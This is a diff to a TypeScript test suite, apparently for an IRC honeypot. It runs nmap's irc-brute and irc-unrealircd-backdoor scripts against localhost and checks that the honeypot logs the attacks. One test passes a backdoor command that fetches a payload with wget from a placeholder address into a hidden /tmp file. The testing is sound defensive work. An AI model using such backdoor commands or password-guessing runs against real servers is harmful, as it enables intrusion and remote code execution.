@@ -24,6 +24,17 @@ const file = (name: string, text: string) => {
 }
 after(() => fs.rmSync(home, { recursive: true }))
 
+/**
+ * nmap's scripts pass over the first piece that they read, which on a busy machine may hold all that they wait for: then
+ * they are run again.
+ */
+async function nmapFinds(args: string[], ...wanted: RegExp[]): Promise<void> {
+  let out = ''
+  for (let left = 5; left > 0 && !wanted.every(words => words.test(out)); left--)
+    out = (await runClient('nmap', ['-Pn', '-n', ...args], { seconds: 150 })).out
+  for (const words of wanted) assert.match(out, words)
+}
+
 describe('IRC behind a password', () => {
   const locked = (product: string) =>
     startSkep({
@@ -46,9 +57,8 @@ describe('IRC behind a password', () => {
     const skep = await locked('UnrealIRCd')
     try {
       const words = file('words', 'alpha\nbeta\nletmein\n')
-      const args = ['-Pn', '-n', '-p', String(skep.port('irc')), '--script', '+irc-brute', '127.0.0.1']
-      const { out } = await runClient('nmap', [...args, '--script-args', `passdb=${words}`], { seconds: 100 })
-      assert.match(out, /letmein - Valid credentials/)
+      const args = ['-p', String(skep.port('irc')), '--script', '+irc-brute', '127.0.0.1']
+      await nmapFinds([...args, '--script-args', `passdb=${words}`], /letmein - Valid credentials/)
       const logins = (await skep.eventually(ofAction('login'), 3)) as Login[]
       const passwords = new Set(logins.map(event => event.skep.login.password))
       for (const word of ['alpha', 'beta', 'letmein']) assert.ok(passwords.has(word), word)
@@ -130,12 +140,14 @@ test('nmap finds the back door where there is one, and it is recorded', { skip: 
   try {
     const port = String(skep.port('irc'))
     const scripts = '+irc-unrealircd-backdoor,+irc-info,+irc-botnet-channels'
-    const args = ['-Pn', '-n', '-sV', '-p', port, '--script', scripts, '127.0.0.1']
+    const args = ['-sV', '-p', port, '--script', scripts, '127.0.0.1']
     const command = 'irc-unrealircd-backdoor.command=wget http://198.51.100.9/x86 -O /tmp/.x'
-    const { out } = await runClient('nmap', [...args, '--script-args', command], { seconds: 150 })
-    assert.match(out, /Looks like trojaned version of unrealircd/)
-    assert.match(out, /open +irc +UnrealIRCd/)
-    assert.match(out, /irc-info:[\s\S]*users: \d+/)
+    await nmapFinds(
+      [...args, '--script-args', command],
+      /Looks like trojaned version of unrealircd/,
+      /open +irc +UnrealIRCd/,
+      /irc-info:[\s\S]*users: \d+/,
+    )
     const [exploit] = (await skep.eventually(ofAction('exploit'))) as Exploit[]
     assert.equal(exploit!.vulnerability.id, 'CVE-2010-2075')
     await skep.eventually(ofAction('file-download'))
